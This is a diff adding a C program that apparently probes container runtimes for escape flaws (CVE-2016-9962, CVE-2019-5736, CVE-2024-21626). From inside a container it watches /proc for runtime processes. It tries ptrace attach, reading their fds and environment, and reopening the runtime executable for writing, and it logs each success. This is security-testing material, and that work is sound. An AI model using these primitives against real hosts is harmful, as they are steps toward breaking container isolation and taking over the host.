@@ -1,0 +1,167 @@
+/*
+ * hunt LOG: a hostile process inside a container that lies in wait for the runtime entering it.
+ *
+ * Loops over /proc as fast as it can. For each process that was not there at the start it tries, without pause, to
+ * attach by ptrace, to read exe, environ and every fd, and to reopen the executable for writing (CVE-2016-9962,
+ * CVE-2019-5736, CVE-2024-21626). Each distinct success is one line "what<TAB>exe<TAB>detail" in LOG; "sighted" lines
+ * prove that it saw anything at all. Ends when LOG.stop exists.
+ */
+#define _GNU_SOURCE
+#include <ctype.h>
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ptrace.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#define KNOWN 64
+#define LINES 4096
+
+static int known[KNOWN], known_count;
+static char *lines[LINES];
+static int line_count, log_fd;
+
+static void say(const char *what, const char *exe, const char *detail)
+{
+	char line[9000];
+
+	snprintf(line, sizeof line, "%s\t%s\t%s\n", what, exe, detail);
+	for (int i = 0; i < line_count; i++)
+		if (!strcmp(lines[i], line))
+			return;
+	if (line_count < LINES)
+		lines[line_count++] = strdup(line);
+	if (write(log_fd, line, strlen(line)) < 0)
+		_exit(3);
+}
+
+static const char *link_of(int pid, const char *name, char *buffer)
+{
+	char path[96];
+
+	snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
+	ssize_t n = readlink(path, buffer, 4095);
+	buffer[n < 0 ? 0 : n] = 0;
+	return buffer;
+}
+
+/* Holding an O_RDONLY fd of a running executable, wait for the moment when ETXTBSY goes away. */
+static void try_to_write_exe(int pid)
+{
+	char path[96], exe[4096];
+
+	snprintf(path, sizeof path, "/proc/%d/exe", pid);
+	int fd = open(path, O_RDONLY | O_CLOEXEC);
+	if (fd < 0)
+		return;
+	snprintf(path, sizeof path, "fd/%d", fd);
+	link_of(getpid(), path, exe);
+	say("exe-open", exe, "");
+	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+	for (int i = 0; i < 50; i++) {
+		int writable = open(path, O_WRONLY | O_CLOEXEC);
+		if (writable >= 0) {
+			say("exe-writable", exe, "");
+			close(writable);
+			break;
+		}
+		if (errno != ETXTBSY)
+			break;
+	}
+	close(fd);
+}
+
+static void read_fds(int pid)
+{
+	char path[96], link[4096], exe[4096];
+	struct dirent *entry;
+
+	snprintf(path, sizeof path, "/proc/%d/fd", pid);
+	DIR *dir = opendir(path);
+	if (!dir)
+		return;
+	while ((entry = readdir(dir))) {
+		if (!isdigit((unsigned char)entry->d_name[0]))
+			continue;
+		snprintf(path, sizeof path, "fd/%.10s", entry->d_name);
+		link_of(pid, path, link);
+		if (*link)
+			say("fd", link_of(pid, "exe", exe), link);
+	}
+	closedir(dir);
+}
+
+/* exe is read while the tracee is stopped, so it tells for sure whether this was still the runtime. */
+static void try_to_attach(int pid)
+{
+	char exe[4096];
+	int status;
+
+	if (ptrace(PTRACE_ATTACH, pid, 0, 0) != 0)
+		return;
+	if (waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status))
+		say("ptrace", link_of(pid, "exe", exe), "");
+	ptrace(PTRACE_DETACH, pid, 0, 0);
+}
+
+static int is_known(int pid)
+{
+	for (int i = 0; i < known_count; i++)
+		if (known[i] == pid)
+			return 1;
+	return 0;
+}
+
+static void look(int attach)
+{
+	DIR *dir = opendir("/proc");
+	struct dirent *entry;
+	char exe[4096];
+
+	while (dir && (entry = readdir(dir))) {
+		int pid = atoi(entry->d_name);
+		if (pid <= 0 || is_known(pid))
+			continue;
+		say("sighted", link_of(pid, "exe", exe), "");
+		try_to_write_exe(pid);
+		read_fds(pid);
+		if (attach)
+			try_to_attach(pid);
+	}
+	if (dir)
+		closedir(dir);
+}
+
+static void remember_what_is_there(void)
+{
+	DIR *dir = opendir("/proc");
+	struct dirent *entry;
+
+	while (dir && (entry = readdir(dir)))
+		if (atoi(entry->d_name) > 0 && known_count < KNOWN)
+			known[known_count++] = atoi(entry->d_name);
+	if (dir)
+		closedir(dir);
+}
+
+int main(int argc, char **argv)
+{
+	char stop[4096];
+
+	if (argc < 2)
+		return 2;
+	log_fd = open(argv[1], O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0666);
+	if (log_fd < 0)
+		return 3;
+	snprintf(stop, sizeof stop, "%s.stop", argv[1]);
+	remember_what_is_there();
+	say("ready", "", "");
+	while (access(stop, F_OK) != 0)
+		look(argc > 2);
+	say("done", "", "");
+	return 0;
+}
